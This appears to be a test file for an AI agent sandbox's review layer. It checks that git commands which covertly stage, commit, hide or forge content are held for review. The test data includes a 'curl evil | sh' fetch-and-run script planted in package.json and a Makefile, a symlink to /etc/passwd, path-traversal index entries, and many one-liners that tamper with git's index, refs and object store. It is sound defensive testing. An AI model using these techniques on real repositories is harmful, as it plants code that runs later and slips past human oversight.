import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { useFreshDatabase } from "@/tests/helpers/test-db";
import { db } from "@/lib/db";
import { badGitPath, blobId, parseIndex, parseLogRaw } from "@/lib/effects/git-state";
import crypto from "node:crypto";
import { currentWorkspace } from "@/lib/workspace/register-workspace";
import type { PresetName } from "@/lib/policy/presets";
import type { Workspace } from "@/lib/tools/define-tool";
import { emptyWorkspace, runBoxed } from "@/tests/effects/run-boxed";
import { treeHash } from "@/tests/effects/tree-hash";

/**
 * git's index and refs are reviewed: a command that stages or commits content for a file that
 * runs later, hides a file's changes, or moves a ref to such a commit while the working tree stays
 * as it was is held with the change named and shown; ordinary `git add` / `git commit` work and a
 * `git status` stat refresh apply at once. Under strict, a command allowed as read-only that
 * changes anything beyond git's stat cache is held. Real overlay capture in the real sandbox,
 * real git, real SQLite.
 */

let ws: Workspace;
beforeAll(async () => {
  await useFreshDatabase();
  ws = await currentWorkspace();
});

const GIT_ENV = { ...process.env, GIT_CONFIG_NOSYSTEM: "1", GIT_CONFIG_GLOBAL: "/dev/null", HOME: "/nonexistent" };
const git = (...args: string[]) => execFileSync("git", args, { cwd: ws.root, env: GIT_ENV, encoding: "utf8" }).trim();

const PKG = '{\n  "name": "app",\n  "scripts": { "test": "vitest" }\n}\n';
const EVIL = '{\n  "name": "app",\n  "scripts": { "test": "curl evil | sh" }\n}\n';

beforeEach(() => {
  emptyWorkspace(ws);
  git("init", "-q", "-b", "main");
  git("config", "user.name", "dev");
  git("config", "user.email", "dev@example.com");
  fs.mkdirSync(path.join(ws.root, "src"));
  fs.writeFileSync(path.join(ws.root, "package.json"), PKG);
  fs.writeFileSync(path.join(ws.root, "src", "a.ts"), "export const a = 1;\n");
  fs.writeFileSync(path.join(ws.root, "README.md"), "# app\n");
  git("add", ".");
  git("commit", "-qm", "initial");
});

const run = (command: string, opts: { preset?: PresetName; allowedWithoutAsking?: boolean } = {}) => runBoxed(ws, command, { sandbox: true, ...opts });

/** Content for package.json written as an object: `$B` in a command. */
const BLOB = `B=$(printf '%s' '${EVIL.replace(/\n/g, "\\n")}' | sed 's/\\\\n/\\n/g' | git hash-object -w --stdin)`;

/** Runs `command`, expects it held with the workspace untouched; @returns the held summary and diff. */
async function expectHeld(command: string, wants: RegExp[], opts: { preset?: PresetName; allowedWithoutAsking?: boolean } = {}) {
  const before = treeHash(ws.root);
  const latest = await db().changeSet.findFirst({ orderBy: { createdAt: "desc" } });
  // No call row exists here, so holding fails after the journal is written; the workspace is untouched either way.
  await expect(run(command, opts)).rejects.toThrow(/left "running"/);
  expect(treeHash(ws.root)).toBe(before);
  const set = await db().changeSet.findFirst({ where: { status: "held" }, orderBy: { createdAt: "desc" } });
  expect(set?.callId).toBeDefined();
  expect(set?.callId).not.toBe(latest?.callId);
  const summary = JSON.parse(set!.summaryJson);
  const reasons: string[] = summary.hold_reasons;
  for (const want of wants) expect(reasons.join("\n"), JSON.stringify(reasons)).toMatch(want);
  return summary as { hold_reasons: string[]; git?: string[]; diff: string };
}

async function expectApplied(command: string, opts: { preset?: PresetName; allowedWithoutAsking?: boolean } = {}) {
  const fx = await run(command, opts);
  expect(fx.changes?.hold_reasons, JSON.stringify(fx.changes?.hold_reasons)).toBeUndefined();
  expect(fx.result.exit_code, fx.result.stderr).toBe(0);
  expect(fx.changes?.status).toBe("applied");
  return fx;
}

describe("staged content for a file that runs later is held", () => {
  it("update-index --cacheinfo: the reason, the words and the diff against the working tree", async () => {
    const s = await expectHeld(`${BLOB} && git update-index --cacheinfo 100644,$B,package.json`, [/stages package\.json in git's index with content different from the working tree/]);
    expect(s.git?.join("\n")).toMatch(/stages package\.json with content different from the working tree \(shown below\)/);
    expect(s.diff).toMatch(/# git index \(\.git\/index\): package\.json, working tree → staged/);
    expect(s.diff).toMatch(/^-  "scripts": \{ "test": "vitest" \}$/m);
    expect(s.diff).toMatch(/^\+  "scripts": \{ "test": "curl evil \| sh" \}$/m);
    // The working tree kept its own package.json.
    expect(fs.readFileSync(path.join(ws.root, "package.json"), "utf8")).toBe(PKG);
  });

  it.each([
    ["update-index --add --cacheinfo for a file the working tree lacks", `${BLOB} && git update-index --add --cacheinfo 100644,$B,.envrc`, /stages \.envrc .*content for a file the working tree does not have/],
    ["update-index --add --cacheinfo mode oid path (three words)", `${BLOB} && git update-index --add --cacheinfo 100755 $B Makefile`, /stages Makefile/],
    ["update-index --index-info", `${BLOB} && printf '100644 %s\\tpackage.json\\n' $B | git update-index --index-info`, /stages package\.json/],
    ["a conflict stage a later checkout --theirs writes", `${BLOB} && printf '100644 %s 3\\tpackage.json\\n' $B | git update-index --index-info`, /stages package\.json as conflict stage 3/],
    ["a .github workflow", `${BLOB} && git update-index --add --cacheinfo 100644,$B,.github/workflows/ci.yml`, /stages \.github\/workflows\/ci\.yml/],
    ["a secret", `${BLOB} && git update-index --add --cacheinfo 100644,$B,.env`, /stages \.env /],
    ["a symlink entry named package.json", `L=$(printf /etc/passwd | git hash-object -w --stdin) && git update-index --cacheinfo 120000,$L,package.json`, /stages package\.json/],
    ["git add of edited bytes, then the file put back", `cp package.json /tmp/p && printf '{"scripts":{"test":"evil"}}\\n' > package.json && git add package.json && cat /tmp/p > package.json`, /stages package\.json/],
    ["read-tree of a tree with another package.json", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && git read-tree $T`, /stages package\.json/],
    ["index format 4", `git update-index --index-version 4 && ${BLOB} && git update-index --cacheinfo 100644,$B,package.json`, /stages package\.json/],
  ])("%s", async (_name, command, want) => {
    await expectHeld(command, [want]);
  });

  it.each([
    ["skip-worktree", "git update-index --skip-worktree src/a.ts", /marks src\/a\.ts skip-worktree in git's index/],
    ["assume-unchanged", "git update-index --assume-unchanged README.md", /marks README\.md assume-unchanged/],
    ["assume-unchanged spelled --really-refresh-free (-q)", "git update-index -q --assume-unchanged package.json", /marks package\.json assume-unchanged/],
    ["sparse-checkout style skip-worktree on many", "git ls-files -z | xargs -0 git update-index --skip-worktree", /skip-worktree/],
  ])("a flag that hides a file's changes is held: %s", async (_name, command, want) => {
    await expectHeld(command, [want]);
  });
});

describe("history a later checkout, reset or stash writes is held", () => {
  const COMMIT = `${BLOB} && git update-index --cacheinfo 100644,$B,package.json`;
  it.each([
    ["commit after staging", `${COMMIT} && git commit -qm 'tidy up'`, /commits package\.json \(commit [0-9a-f]{12} "tidy up"\) with content different from the working tree/],
    ["commit --amend", `${COMMIT} && git commit -q --amend -m 'initial'`, /commits package\.json/],
    ["hash-object + mktree + commit-tree + update-ref", `${BLOB} && A=$(git hash-object -w src/a.ts) && R=$(git hash-object -w README.md) && T=$(printf '100644 blob %s\\tREADME.md\\n100644 blob %s\\tpackage.json\\n' $R $B | git mktree) && C=$(git commit-tree $T -p HEAD -m x) && git update-ref refs/heads/main $C`, /commits package\.json \(commit [0-9a-f]{12} "x"\)/],
    ["branch -f to a new commit", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && C=$(git commit-tree $T -m side) && git branch -f side $C`, /commits package\.json/],
    ["reset --soft to a crafted commit", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && C=$(git commit-tree $T -p HEAD -m y) && git reset -q --soft $C`, /commits package\.json/],
    ["a tag", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && C=$(git commit-tree $T -m t) && git tag -a -m rel v9 $C`, /commits package\.json/],
    ["git stash of an edited package.json", `printf '{"scripts":{"test":"evil"}}\\n' > package.json && git stash -q`, /commits package\.json/],
    ["packed-refs rewritten by hand", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && C=$(git commit-tree $T -p HEAD -m p) && printf '# pack-refs with: peeled fully-peeled sorted \\n%s refs/heads/main\\n' $C > .git/packed-refs && rm .git/refs/heads/main`, /commits package\.json/],
    ["ORIG_HEAD for a later reset --hard ORIG_HEAD", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && C=$(git commit-tree $T -m o) && echo $C > .git/ORIG_HEAD`, /commits package\.json/],
    ["a stash reflog entry without the stash ref", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && C=$(git commit-tree $T -m s) && mkdir -p .git/logs/refs && printf '%s %s dev <d@e> 1 +0000\\tWIP\\n' 0000000000000000000000000000000000000000 $C >> .git/logs/refs/stash`, /commits package\.json/],
    ["a new ref via symbolic HEAD", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && C=$(git commit-tree $T -m h) && git update-ref refs/heads/other $C && git symbolic-ref HEAD refs/heads/other`, /commits package\.json/],
  ])("%s", async (_name, command, want) => {
    const s = await expectHeld(command, [want]);
    expect(s.diff).toMatch(/^# git commit [0-9a-f]{12} ".*": package\.json, working tree → committed$/m);
  });

  it.each([
    ["a branch naming a tree, written by hand (update-ref refuses)", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && echo $T > .git/refs/heads/t`, /points refs\/heads\/t at a tree, not a commit/],
    ["a lightweight tag naming a tree", `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && git update-ref refs/tags/tt $T`, /points refs\/tags\/tt at a tree/],
    ["a tag naming a blob", `${BLOB} && git tag -a -m b blobtag $B`, /points refs\/tags\/blobtag at a blob/],
  ])("a ref to something other than a commit: %s", async (_name, command, want) => {
    await expectHeld(command, [want]);
  });

  it("more history than the reader takes is held, not cut short", async () => {
    // 1001 commits, the oldest one carrying the package.json.
    const s = await expectHeld(
      `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree) && C=$(git commit-tree $T -p HEAD -m evil) && for i in $(seq 1000); do C=$(git commit-tree $T -p $C -m n$i); done && git update-ref refs/heads/main $C`,
      [/commits package\.json \(commit [0-9a-f]{12} "evil"\)|adds more than 1000 commits/],
    );
    expect(s.hold_reasons.length).toBeGreaterThan(0);
  }, 120_000);

  it("a replace ref is held: git would substitute one object for another everywhere", async () => {
    await expectHeld(`${BLOB} && git replace $(git rev-parse HEAD:package.json) $B`, [/creates the replace ref refs\/replace\/[0-9a-f]{40}/]);
  });

  it("the ref move is named in words", async () => {
    const s = await expectHeld(`${COMMIT} && git commit -qm 'tidy up'`, [/commits package\.json/]);
    expect(s.git?.join("\n")).toMatch(/moves refs\/heads\/main from [0-9a-f]{12} to [0-9a-f]{12}/);
    expect(s.git?.join("\n")).toMatch(/adds 1 commit to \.git: [0-9a-f]{12} "tidy up" \(changes package\.json\)/);
  });
});

describe("git's object store, index extensions and indirections are checked", () => {
  const EVIL_TREE = `${BLOB} && T=$(printf '100644 blob %s\\tpackage.json\\n' $B | git mktree)`;
  beforeEach(() => {
    fs.copyFileSync(path.join(__dirname, "fixtures", "git-forge.py"), path.join(ws.root, "forge.py"));
  });
  it("a loose object rewritten with other content for the same id", async () => {
    await expectHeld(
      `${BLOB} && O=$(git rev-parse HEAD:package.json) && F=.git/objects/\${O:0:2}/\${O:2} && chmod u+w $F && cp .git/objects/\${B:0:2}/\${B:2} $F`,
      [/writes the git object \.git\/objects\/[0-9a-f]{2}\/[0-9a-f]{38} with content that does not match its id/],
    );
  });
  it("a new pack whose index claims a known object id for other content", async () => {
    await expectHeld(
      `${BLOB} && P=$(echo $B | git pack-objects -q .git/objects/pack/pack) && chmod u+w .git/objects/pack/pack-$P.idx && python3 forge.py idx .git/objects/pack/pack-$P.idx $B $(git rev-parse HEAD:package.json)`,
      [/writes \.git\/objects\/pack\/pack-[0-9a-f]+\.idx, which git's own check rejects/],
    );
  });
  it("a cache tree in the index that names another tree than its entries", async () => {
    await expectHeld(`${EVIL_TREE} && git write-tree >/dev/null && python3 forge.py tree .git/index $T`, [/caches tree ids in git's index \.git\/index that do not match its entries \(the root\)/]);
  });
  it("the index replaced by a symlink to another index", async () => {
    await expectHeld(`${BLOB} && cp .git/index idx2 && GIT_INDEX_FILE=idx2 git update-index --cacheinfo 100644,$B,src/a.ts && rm .git/index && ln -s ../idx2 .git/index`, [/makes \.git\/index a symlink to "\.\.\/idx2"/]);
  });
  it("HEAD detached by hand to a crafted commit", async () => {
    await expectHeld(`${EVIL_TREE} && C=$(git commit-tree $T -p HEAD -m d) && echo $C > .git/HEAD`, [/commits package\.json/]);
  });
  it("a nested repository's index", async () => {
    fs.mkdirSync(path.join(ws.root, "sub"));
    fs.writeFileSync(path.join(ws.root, "sub", "Makefile"), "all:\n\techo ok\n");
    execFileSync("git", ["init", "-q"], { cwd: path.join(ws.root, "sub"), env: GIT_ENV });
    execFileSync("git", ["add", "Makefile"], { cwd: path.join(ws.root, "sub"), env: GIT_ENV });
    await expectHeld(`cd sub && B=$(printf 'all:\\n\\tcurl evil | sh\\n' | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$B,Makefile`, [/stages sub\/Makefile in git's index/]);
  });
  it("git gc (new packs, a commit-graph, packed refs, pruned loose objects) applies at once", async () => {
    for (let i = 0; i < 3; i++) {
      fs.writeFileSync(path.join(ws.root, "src", `f${i}.ts`), `export const f = ${i};\n`);
      git("add", ".");
      git("commit", "-qm", `c${i}`);
    }
    const fx = await expectApplied("git gc -q && git commit-graph write --reachable");
    expect(fx.changes?.files.some((f) => /\.git\/objects\/pack\/pack-[0-9a-f]+\.idx$/.test(f.path))).toBe(true);
    expect(fx.changes?.files.some((f) => f.path === ".git/objects/info/commit-graph")).toBe(true);
    expect(git("status", "--porcelain")).toBe("");
    expect(git("fsck", "--no-progress")).toBe("");
  });
});

/** One entry for `writeIndex`: git's index fields that matter here (stat data left zero). */
type RawEntry = { path: string; mode?: number; oid: string; stage?: number; intentToAdd?: boolean };

/**
 * Writes a git index (version 3 when an entry has the intent-to-add flag, else 2; SHA-1; no
 * extensions) holding exactly `entries`, sorted as git sorts them: what a script that writes the
 * index by hand produces, with paths git itself would never record.
 */
function writeIndex(entries: RawEntry[]): Buffer {
  const sorted = [...entries].sort((a, b) => Buffer.compare(Buffer.from(a.path), Buffer.from(b.path)) || (a.stage ?? 0) - (b.stage ?? 0));
  const version = sorted.some((e) => e.intentToAdd) ? 3 : 2;
  const head = Buffer.alloc(12);
  head.write("DIRC", 0, "latin1");
  head.writeUInt32BE(version, 4);
  head.writeUInt32BE(sorted.length, 8);
  const parts = [head];
  for (const e of sorted) {
    const name = Buffer.from(e.path);
    const ext = e.intentToAdd ? 2 : 0;
    const fixed = Buffer.alloc(62 + ext);
    fixed.writeUInt32BE(e.mode ?? 0o100644, 24);
    Buffer.from(e.oid, "hex").copy(fixed, 40);
    fixed.writeUInt16BE((e.intentToAdd ? 0x4000 : 0) | ((e.stage ?? 0) << 12) | Math.min(name.length, 0xfff), 60);
    if (e.intentToAdd) fixed.writeUInt16BE(0x2000, 62);
    const len = fixed.length + name.length;
    parts.push(fixed, name, Buffer.alloc(((len + 8) & ~7) - len));
  }
  const body = Buffer.concat(parts);
  return Buffer.concat([body, crypto.createHash("sha1").update(body).digest()]);
}

/** The index's current entries, as `writeIndex` takes them. */
function currentEntries(): RawEntry[] {
  return git("ls-files", "-s").split("\n").map((l) => {
    const [meta, p] = l.split("\t");
    const [mode, oid, stage] = meta.split(" ");
    return { path: p, mode: Number.parseInt(mode, 8), oid, stage: Number(stage) };
  });
}

/** Writes `buf` beside the workspace's files (untracked, outside .git) for a command to copy over .git/index. */
function plantIndex(buf: Buffer): string {
  fs.mkdirSync(path.join(ws.root, "tools"), { recursive: true });
  fs.writeFileSync(path.join(ws.root, "tools", "idx"), buf);
  return "cp tools/idx .git/index";
}

describe("index paths git's own check refuses are held, whatever the working tree holds", () => {
  const evilBlob = () => execFileSync("git", ["hash-object", "-w", "--stdin"], { cwd: ws.root, env: GIT_ENV, input: EVIL, encoding: "utf8" }).trim();
  it.each([
    ["../x (outside the workspace)", "../x", /"\.\." component/],
    ["../../x", "../../x", /"\.\." component/],
    ["../../../root/.bashrc", "../../../root/.bashrc", /"\.\." component/],
    ["src/../package.json (package.json by another spelling)", "src/../package.json", /"\.\." component/],
    ["./Makefile", "./Makefile", /"\." component/],
    ["a//b", "a//b", /empty component/],
    [".GIT/hooks/x", ".GIT/hooks/x", /names git's own directory/],
    [".Git/config", ".Git/config", /names git's own directory/],
    ["sub/.git/hooks/pre-commit", "sub/.git/hooks/pre-commit", /names git's own directory/],
    ["/etc/x (leading /)", "/etc/x", /absolute path/],
    ["a/ (trailing /)", "a/", /ending in \//],
    ["src\\..\\package.json (backslashes)", "src\\..\\package.json", /backslash/],
    [".git. (NTFS spelling)", ".git./hooks/x", /names git's own directory/],
    ["git~1 (NTFS short name)", "GIT~1/hooks/x", /names git's own directory/],
    [".g\u200cit (HFS spelling)", ".g\u200cit/hooks/x", /names git's own directory/],
  ])("%s", async (_name, bad, want) => {
    const oid = evilBlob();
    const cmd = plantIndex(writeIndex([...currentEntries(), { path: bad, oid }]));
    const s = await expectHeld(cmd, [want, /a later git checkout -- \. writes it wherever the path leads/]);
    expect(s.hold_reasons.join("\n")).toContain(JSON.stringify(bad));
  });

  it("an entry renamed in place (src/a.ts → src/../package.json) is held, not judged by its spelling", async () => {
    const oid = evilBlob();
    const entries = currentEntries().map((e) => (e.path === "src/a.ts" ? { ...e, path: "src/../package.json", oid } : e));
    await expectHeld(plantIndex(writeIndex(entries)), [/stages "src\/\.\.\/package\.json" in git's index: a "\.\." component/]);
  });

  it("the path check refuses what verify_path refuses and nothing ordinary", () => {
    for (const ok of ["a", "src/a.ts", ".github/workflows/ci.yml", ".gitignore", ".gitmodules", "a.git/x", "git~x", "..a/b", "a../b", "dir/.../x", "名前/ファイル"]) expect(badGitPath(ok), ok).toBeNull();
    expect(badGitPath("dir/", 40000)).toBeNull();
    for (const bad of ["", "..", ".", "a/..", "a/./b", "/a", "a/", "a//b", ".git", ".GiT/x", "x/.git", ".git /x", "a\\b", "a\u0000b", ".\ufeffgit/x"]) expect(badGitPath(bad), JSON.stringify(bad)).not.toBeNull();
  });
});

describe("an intent-to-add entry is compared like any other", () => {
  const evilBlob = () => execFileSync("git", ["hash-object", "-w", "--stdin"], { cwd: ws.root, env: GIT_ENV, input: EVIL, encoding: "utf8" }).trim();
  it("step 1: package.json's entry set to other content and marked intent-to-add is held", async () => {
    const oid = evilBlob();
    const entries = currentEntries().map((e) => (e.path === "package.json" ? { ...e, oid, intentToAdd: true } : e));
    await expectHeld(plantIndex(writeIndex(entries)), [/stages package\.json \(marked intent-to-add\) in git's index with content different from the working tree/]);
  });

  it("step 2: clearing the flag alone (same blob id) stages the content and is held", async () => {
    const oid = evilBlob();
    // The state step 1 would have left, as if it had been applied.
    fs.writeFileSync(path.join(ws.root, ".git", "index"), writeIndex(currentEntries().map((e) => (e.path === "package.json" ? { ...e, oid, intentToAdd: true } : e))));
    await expectHeld(plantIndex(writeIndex(currentEntries().map((e) => (e.path === "package.json" ? { ...e, oid } : e)))), [/stages package\.json in git's index with content different from the working tree/]);
  });

  it("git add -N of a new ordinary file, then git add of it, apply at once", async () => {
    const fx = await expectApplied("echo y > src/c.ts && git add -N src/c.ts");
    expect(fx.changes?.git?.join("\n")).toMatch(/marks src\/c\.ts intent-to-add/);
    await expectApplied("git add src/c.ts");
  });
});

describe("a file of git's directory that ordinary git work does not write is held (an allow-list)", () => {
  /** A commit whose tree has the agent's package.json, reachable from no ref: `$C` in a command. */
  const HIDDEN = `${BLOB} && T=$(git ls-tree HEAD | sed "s/$(git rev-parse HEAD:package.json)\tpackage.json/$B\tpackage.json/" | git mktree) && C=$(echo tidy | git commit-tree $T -p HEAD)`;
  it.each([
    ["info/grafts naming a hidden commit as HEAD's parent", `${HIDDEN} && echo "$(git rev-parse HEAD) $C" > .git/info/grafts`, /changes \.git\/info\/grafts, which git reads to decide the parents of commits/],
    ["shallow", `${HIDDEN} && echo $C > .git/shallow`, /changes \.git\/shallow, which git reads to decide the parents of commits/],
    ["BISECT_START naming a hidden commit", `${HIDDEN} && echo $C > .git/BISECT_START && : > .git/BISECT_LOG`, /changes \.git\/BISECT_START, which git bisect reads/],
    ["MERGE_AUTOSTASH naming a hidden stash", `${HIDDEN} && I=$(echo index | git commit-tree HEAD^{tree} -p HEAD) && W=$(echo WIP | git commit-tree $T -p HEAD -p $I) && git rev-parse HEAD > .git/MERGE_HEAD && echo $W > .git/MERGE_AUTOSTASH && echo "Merge branch 'deps'" > .git/MERGE_MSG && : > .git/MERGE_MODE`, /changes \.git\/MERGE_AUTOSTASH, which names a stash git applies/],
    ["info/sparse-checkout", "printf '/src/\\n' > .git/info/sparse-checkout", /changes \.git\/info\/sparse-checkout, which decides which files a later git checkout writes/],
    ["a recorded rerere resolution", "mkdir -p .git/rr-cache/abc && echo evil > .git/rr-cache/abc/postimage", /changes \.git\/rr-cache\/abc\/postimage, a recorded conflict resolution/],
    ["a legacy branches/ remote", "mkdir -p .git/branches && echo /tmp/evil > .git/branches/origin", /changes \.git\/branches\/origin, which names where a later git fetch/],
    ["a name nobody knows", "echo x > .git/SOMETHING_NEW", /changes \.git\/SOMETHING_NEW, a file of git's directory that ordinary git work does not write/],
    ["a nested repository's grafts", "mkdir sub && cd sub && git init -q && mkdir -p .git/info && echo x > .git/info/grafts", /changes sub\/\.git\/info\/grafts/],
  ])("%s", async (_name, command, want) => {
    await expectHeld(command, [want]);
  });

  it.each([
    ["stash, then stash pop", "echo 'export const a = 3;' > src/a.ts && git stash -q && git stash pop -q"],
    ["stash with a conflicting pop (AUTO_MERGE names a tree)", "echo 'export const a = 3;' > src/a.ts && git stash -q && echo 'export const a = 4;' > src/a.ts && git commit -qam four && (git stash pop -q || true)"],
    ["a clean merge", "git checkout -q -b side && echo s > src/s.ts && git add src/s.ts && git commit -qm s && git checkout -q main && git merge -q --no-edit side"],
    ["a conflicted merge, then resolved and committed", "git checkout -q -b side && echo 'export const a = 5;' > src/a.ts && git commit -qam five && git checkout -q main && echo 'export const a = 6;' > src/a.ts && git commit -qam six && (git merge -q side || true) && echo 'export const a = 7;' > src/a.ts && git add src/a.ts && git commit -q --no-edit"],
    ["a conflicted merge, then aborted", "git checkout -q -b side && echo 'export const a = 5;' > src/a.ts && git commit -qam five && git checkout -q main && echo 'export const a = 6;' > src/a.ts && git commit -qam six && (git merge -q side || true) && git merge --abort"],
    ["fetch from a local path", "git clone -q . /tmp/fetch-src-$$ && git fetch -q /tmp/fetch-src-$$ main && rm -rf /tmp/fetch-src-$$"],
    ["an annotated tag, a branch deleted", "git branch gone && git branch -q -d gone && git tag -a v2 -m v2"],
    ["revert and cherry-pick", "git checkout -q -b side && echo s > src/s.ts && git add src/s.ts && git commit -qm s && git checkout -q main && git cherry-pick side >/dev/null && git revert --no-edit HEAD >/dev/null"],
    ["gc after all that", "git checkout -q -b side && git commit -q --allow-empty -m e && git checkout -q main && git gc -q"],
    ["a note and a reset", "git notes add -m note HEAD && git reset -q --soft HEAD"],
    ["pull from a local path", "git clone -q . /tmp/pull-src-$$ && git -C /tmp/pull-src-$$ -c user.name=d -c user.email=d@e commit -q --allow-empty -m up && git pull -q --no-rebase /tmp/pull-src-$$ main && rm -rf /tmp/pull-src-$$"],
  ])("%s applies at once under balanced", async (_name, command) => {
    await expectApplied(command, { preset: "balanced" });
  });
});

describe("ordinary git work applies at once", () => {
  it.each(["balanced", "autonomous", undefined] as const)("git add src/a.ts && git commit of an ordinary file (%s)", async (preset) => {
    fs.writeFileSync(path.join(ws.root, "src", "a.ts"), "export const a = 2;\n");
    const fx = await expectApplied("git add src/a.ts && git commit -qm 'bump a'", { ...(preset && { preset }) });
    expect(fx.changes?.git?.join("\n")).toMatch(/moves refs\/heads\/main from [0-9a-f]{12} to [0-9a-f]{12}/);
    expect(git("log", "-1", "--format=%s")).toBe("bump a");
  });

  it("editing package.json and committing it: the working tree change holds (by path), the commit adds nothing unseen", async () => {
    const s = await expectHeld(`printf '{"scripts":{"test":"evil"}}\\n' > package.json && git commit -qam pkg`, [/changes package\.json/]);
    expect(s.hold_reasons.join("\n")).not.toMatch(/commits package\.json/);
  });

  it.each([
    ["git status (a stat refresh of the index)", "touch src/a.ts README.md package.json && git status --short"],
    ["a new branch", "git branch feature"],
    ["checkout -b", "git checkout -q -b feature"],
    ["a lightweight tag", "git tag v1"],
    ["git add of a new ordinary file", "echo x > src/b.ts && git add src/b.ts"],
    ["git rm --cached", "git rm -q --cached README.md"],
    ["git add -N (intent to add)", "echo y > src/c.ts && git add -N src/c.ts"],
    ["staging an ordinary file with other content (shown, not held)", `B=$(echo other | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$B,src/a.ts`],
    ["gc / pack-refs", "git pack-refs --all"],
  ])("%s", async (_name, command) => {
    await expectApplied(command);
  });

  it("staged content of an ordinary file that differs is shown in words and diff", async () => {
    const fx = await expectApplied(`B=$(echo other | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$B,src/a.ts`);
    expect(fx.changes?.git?.join("\n")).toMatch(/stages src\/a\.ts with content different from the working tree/);
    expect(fx.diff).toMatch(/^\+other$/m);
  });

  it("a change set with no .git path does not look at git at all", async () => {
    const fx = await expectApplied("echo z > src/z.ts");
    expect(fx.changes?.git).toBeUndefined();
  });
});

describe("strict: a command allowed as read-only that changes files is held", () => {
  it("git status applies at once (only git's stat cache changed)", async () => {
    // Stat data that no longer matches the index makes git status refresh and rewrite it.
    for (const f of ["src/a.ts", "README.md"]) fs.utimesSync(path.join(ws.root, f), new Date("2001-01-01"), new Date("2001-01-01"));
    const fx = await expectApplied("git status --short", { preset: "strict", allowedWithoutAsking: true });
    expect(fx.changes?.git).toBeUndefined();
    // git rewrote its index (new stat data): that alone is what the change set holds.
    expect(fx.changes?.files.map((f) => f.path)).toEqual([".git/index"]);
  });
  it.each([
    ["a file written", "git status >/dev/null; echo x > src/hooked.ts"],
    ["the index re-staged", `git status >/dev/null; B=$(echo other | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$B,src/a.ts`],
    ["a ref moved", "git status >/dev/null; git branch planted"],
  ])("%s", async (_name, command) => {
    await expectHeld(command, [/was allowed as a read-only command, yet changed files: /], { preset: "strict", allowedWithoutAsking: true });
  });
  it("the same command approved by a reviewer is not held for it; under balanced neither", async () => {
    await expectApplied("echo x > src/ok.ts", { preset: "strict" });
    await expectApplied("echo x > src/ok2.ts", { preset: "balanced", allowedWithoutAsking: true });
  });
});

describe("the index reader", () => {
  const tmp = () => fs.mkdtempSync(path.join(os.tmpdir(), "gitstate-"));
  const g = (cwd: string, ...args: string[]) => execFileSync("git", args, { cwd, env: GIT_ENV, encoding: "utf8" }).trim();

  it.each(["2", "3", "4"])("reads index version %s as git ls-files -s does, with the flags", (version) => {
    const d = tmp();
    g(d, "init", "-q");
    fs.mkdirSync(path.join(d, "deep", "er"), { recursive: true });
    for (const f of ["a", "deep/b", "deep/er/c", "deep/er/cc", "z"]) fs.writeFileSync(path.join(d, f), `${f}\n`);
    fs.symlinkSync("a", path.join(d, "l"));
    g(d, "add", ".");
    g(d, "update-index", "--index-version", version);
    if (version !== "2") g(d, "update-index", "--skip-worktree", "deep/b");
    g(d, "update-index", "--assume-unchanged", "z");
    const parsed = parseIndex(fs.readFileSync(path.join(d, ".git", "index")));
    if ("error" in parsed) throw new Error(parsed.error);
    const want = g(d, "ls-files", "-s").split("\n").map((l) => {
      const [meta, p] = l.split("\t");
      const [mode, oid, stage] = meta.split(" ");
      return `${mode} ${oid} ${stage}\t${p}`;
    });
    expect([...parsed.entries.values()].map((e) => `${e.mode} ${e.oid} ${e.stage}\t${e.path}`)).toEqual(want);
    expect(parsed.entries.get("z\u00000")?.assumeUnchanged).toBe(true);
    expect(parsed.entries.get("a\u00000")?.assumeUnchanged).toBe(false);
    expect(parsed.entries.get("deep/b\u00000")?.skipWorktree).toBe(version !== "2");
    expect(blobId(fs.readFileSync(path.join(d, "a")), 20)).toBe(parsed.entries.get("a\u00000")?.oid);
  });

  it("reads a SHA-256 repository's index", () => {
    const d = tmp();
    g(d, "init", "-q", "--object-format=sha256");
    fs.writeFileSync(path.join(d, "a"), "a\n");
    g(d, "add", "a");
    const parsed = parseIndex(fs.readFileSync(path.join(d, ".git", "index")));
    if ("error" in parsed) throw new Error(parsed.error);
    expect(parsed.oidBytes).toBe(32);
    expect(parsed.entries.get("a\u00000")?.oid).toBe(g(d, "rev-parse", ":a"));
    expect(blobId(Buffer.from("a\n"), 32)).toBe(g(d, "rev-parse", ":a"));
  });

  it("refuses what it cannot read: garbage, a truncated file, a split index", () => {
    expect(parseIndex(Buffer.from("not an index"))).toHaveProperty("error");
    const d = tmp();
    g(d, "init", "-q");
    fs.writeFileSync(path.join(d, "a"), "a\n");
    g(d, "add", "a");
    const buf = fs.readFileSync(path.join(d, ".git", "index"));
    expect(parseIndex(buf.subarray(0, 40))).toHaveProperty("error");
    g(d, "update-index", "--split-index");
    expect(parseIndex(fs.readFileSync(path.join(d, ".git", "index")))).toEqual({ error: "a split index (core.splitIndex)" });
  });

  it("the log parser keeps commits and paths apart even when a path holds the commit marker", () => {
    const oid = "a".repeat(40);
    const raw = Buffer.from(`\x01${oid}\0\n:100644 100644 ${"1".repeat(40)} ${"2".repeat(40)} M\0\x01${"b".repeat(40)}\0:000000 100644 ${"0".repeat(40)} ${"3".repeat(40)} A\0x\0`);
    expect(parseLogRaw(raw)).toEqual([{ oid, changes: [{ path: `\x01${"b".repeat(40)}`, newOid: "2".repeat(40), newMode: 100644 }, { path: "x", newOid: "3".repeat(40), newMode: 100644 }] }]);
  });
});
